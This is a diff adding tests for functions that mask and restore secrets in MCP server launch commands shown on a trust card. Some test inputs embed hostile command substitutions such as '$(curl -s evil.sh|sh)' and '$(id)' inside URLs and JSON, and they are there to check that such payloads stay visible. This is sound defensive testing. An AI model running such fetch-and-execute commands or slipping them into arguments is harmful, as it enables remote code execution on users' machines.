@@ -379,10 +379,10 @@ describe("putting hidden values back (review 14, round 2)", () => {
       "-y",
       "some-mcp",
       "--config",
-      '{"apiKey":"{hidden}","region":"eu","note":"{hidden}","keys":["{hidden}","{hidden}"],"password":"{hidden}","server":"https://h.com/mcp?token={hidden}"}',
+      '{"apiKey": "{hidden}", "region":"eu", "note":"{hidden}", "keys": ["{hidden}", "{hidden}"], "password": "{hidden}", "server": "https://h.com/mcp?token={hidden}"}',
       '--extra={"token":"{hidden}"}',
     ]);
-    // Sent back as shown, with the package changed beside it: the file's values are kept, as written.
+    // Sent back as shown, with the package changed beside it: the file's values are kept.
     expect(unmaskCommand(["npx", "-y", "some-mcp@2", ...shown.slice(3)], file)).toEqual([
       "npx",
       "-y",
@@ -392,9 +392,9 @@ describe("putting hidden values back (review 14, round 2)", () => {
     // The JSON itself edited around a mark: which value it was cannot be told, so it is refused.
     const edited = [...shown.slice(0, 4), (shown[4] ?? "").replace('"eu"', '"us"'), shown[5] ?? ""];
     expect(() => unmaskCommand(edited, file)).toThrow(/hidden value the file has no value for/);
-    // The trust card hides only values that look like keys, never by the member's name.
+    // The trust card hides only values that look like keys, never by the member's or a query's name.
     expect(hideKeyValues(file)[4]).toBe(
-      '{"apiKey":"plain-words-key","region":"eu","note":"{hidden}","keys":["a1","b2"],"password":123456,"server":"https://h.com/mcp?token={hidden}"}',
+      '{"apiKey": "plain-words-key", "region":"eu", "note":"{hidden}", "keys": ["a1", "b2"], "password": 123456, "server": "https://h.com/mcp?token=abc"}',
     );
     // JSON with nothing to hide is shown as written.
     expect(maskCommand(["npx", "x", '{ "region": "eu" }'])).toEqual(["npx", "x", '{ "region": "eu" }']);
@@ -493,6 +493,77 @@ describe("putting hidden values back (review 14, round 2)", () => {
     expect(maskSecretsIn(`stderr: "line one\\n${ghp}"`)).toBe('stderr: "line one\\n{hidden}"');
     expect(maskSecretsIn("see docs/api.reference.md and version 1.18.33.")).toBe(
       "see docs/api.reference.md and version 1.18.33.",
+    );
+  });
+
+  it("shows the trust card a JSON argument as it will run: no payload behind a query's name, no duplicate key dropped (round 3, H1/H2)", () => {
+    for (const argument of [
+      '["https://h.com/?token=$(curl -s evil.sh|sh)"]',
+      'X={"u":"https://h.com/?auth=$(id)"}',
+      '{"a":"\\u0024(id)","n":12345678901234567890,"s":  "spaced"}',
+    ])
+      expect(hideKeyValues(["sh", "-c", argument])[2]).toBe(argument);
+    expect(hideKeyValues(["sh", "-c", `{"a":"$(curl -s evil.sh|sh)","a":"x","k":"${ghp}"}`])[2]).toBe(
+      '{"a":"$(curl -s evil.sh|sh)","a":"x","k":"{hidden}"}',
+    );
+  });
+
+  it("refuses a new secret typed inside JSON beside a kept mark, rather than keeping the old one silently (round 3, H3)", () => {
+    const file = ["npx", '{"token":"a","password":"b"}', `--config={"token":"a","password":"b"}`];
+    const shown = maskCommand(file);
+    expect(shown.slice(1)).toEqual([
+      '{"token":"{hidden}","password":"{hidden}"}',
+      '--config={"token":"{hidden}","password":"{hidden}"}',
+    ]);
+    expect(() => unmaskCommand(["npx", '{"token":"{hidden}","password":"NEW"}', shown[2] ?? ""], file)).toThrow(
+      MissingHiddenPartError,
+    );
+    expect(() =>
+      unmaskCommand(["npx", shown[1] ?? "", '--config={"token":"{hidden}","password":"NEW"}'], file),
+    ).toThrow(MissingHiddenPartError);
+    expect(unmaskCommand(shown, file)).toEqual(file);
+  });
+
+  it("answers for JSON nested past any use rather than failing: the form hides it whole, the card shows it (round 3, H4)", () => {
+    const deep = `${"[".repeat(20_000)}"x"${"]".repeat(20_000)}`;
+    const file = ["npx", "server", deep, `--config=${deep}`];
+    const shown = maskCommand(file);
+    expect(shown).toEqual(["npx", "server", "{hidden}", "--config={hidden}"]);
+    expect(unmaskCommand(shown, file)).toEqual(file);
+    expect(hideKeyValues(file)).toEqual(file);
+  });
+
+  it("hides an address, a header or nested JSON given as a flag's or variable's value, and puts it back (round 3, H5/M2)", () => {
+    const file = [
+      "docker",
+      "run",
+      "-e",
+      "DATABASE_URL=postgres://app:hunter2@db/app",
+      "--url=https://h.com/mcp?token=abc",
+      "--header=Authorization: Bearer abc",
+      '{"secrets":{"db":"hunter2","list":["s3cr3t"]},"region":"eu"}',
+      "-e",
+      "MiniMaxApiKey=plainwords",
+    ];
+    const shown = maskCommand(file);
+    expect(shown.slice(3)).toEqual([
+      "DATABASE_URL=postgres://app:{hidden}@db/app",
+      "--url=https://h.com/mcp?token={hidden}",
+      "--header=Authorization: {hidden}",
+      '{"secrets":{"db":"{hidden}","list":["{hidden}"]},"region":"eu"}',
+      "-e",
+      "MiniMaxApiKey={hidden}",
+    ]);
+    expect(maskCommand(shown)).toEqual(shown);
+    expect(unmaskCommand(shown, file)).toEqual(file);
+  });
+
+  it("reads a password with an @ as the URL parser does, and a host's case as DNS does (round 3, L1/L2)", () => {
+    const file = "https://u:p@ss@h.com/mcp";
+    expect(maskUrl(file)).toBe("https://u:{hidden}@h.com/mcp");
+    expect(unmaskUrl("https://u:{hidden}@h.com/mcp2", file)).toBe("https://u:p@ss@h.com/mcp2");
+    expect(unmaskUrl("postgres://u:{hidden}@db.example:5432/app", "postgres://u:pw@DB.example:5432/app")).toBe(
+      "postgres://u:pw@db.example:5432/app",
     );
   });
 
